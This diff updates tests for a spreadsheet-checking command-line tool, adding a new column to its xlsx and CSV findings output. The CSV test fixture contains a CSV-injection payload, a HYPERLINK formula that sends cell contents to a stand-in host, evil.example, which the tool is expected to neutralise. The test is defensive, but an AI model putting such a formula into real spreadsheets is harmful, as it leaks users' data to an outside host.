@@ -144,7 +144,7 @@ describe("--out findings.xlsx", () => {
       expect(ws.pageSetup).toMatchObject({ paperSize: 9, orientation: "landscape", fitToPage: true, fitToWidth: 1, fitToHeight: 0, printTitlesRow: "1:1" });
     }
     const ws = wb.getWorksheet("指摘一覧")!;
-    expect(ws.autoFilter).toBe(`A1:K${ws.rowCount}`);
+    expect(ws.autoFilter).toBe(`A1:L${ws.rowCount}`);
     expect(ws.getCell("G2").alignment).toMatchObject({ wrapText: true, vertical: "top" });
     expect(ws.getCell("A1").font).toMatchObject({ bold: true });
   });
@@ -158,10 +158,10 @@ describe("CSV", () => {
   test("--format csv: UTF-8 with BOM, CRLF, every field quoted, formula-like text neutralised, numbers kept", async () => {
     const r = await run(["check", ...all(), "--format", "csv"], { deps });
     expect(r.code).toBe(1);
-    expect(r.stdout.startsWith("\uFEFF\"ファイル\",\"シート\",\"セル\",\"重要度\",\"ルール\",\"ルールID\",\"メッセージ\",\"記入値\",\"計算値\",\"状態\",\"関連セル\"\r\n")).toBe(true);
+    expect(r.stdout.startsWith("\uFEFF\"ファイル\",\"シート\",\"セル\",\"重要度\",\"ルール\",\"ルールID\",\"メッセージ\",\"記入値\",\"計算値\",\"状態\",\"関連セル\",\"確認の理由\"\r\n")).toBe(true);
     const lines = r.stdout.slice(1).split("\r\n");
     expect(lines[1]).toBe(
-      `"'@evil.xlsx","'=1+2","A1","エラー","テスト用: A1 をそのまま","test/echo","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","7.25","-5","未確認",""`,
+      `"'@evil.xlsx","'=1+2","A1","エラー","テスト用: A1 をそのまま","test/echo","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","7.25","-5","未確認","",`,
     );
     expect(lines[lines.length - 1]).toBe("");
     // stdout is CSV only: the unreadable and unchecked files get their lines on stderr
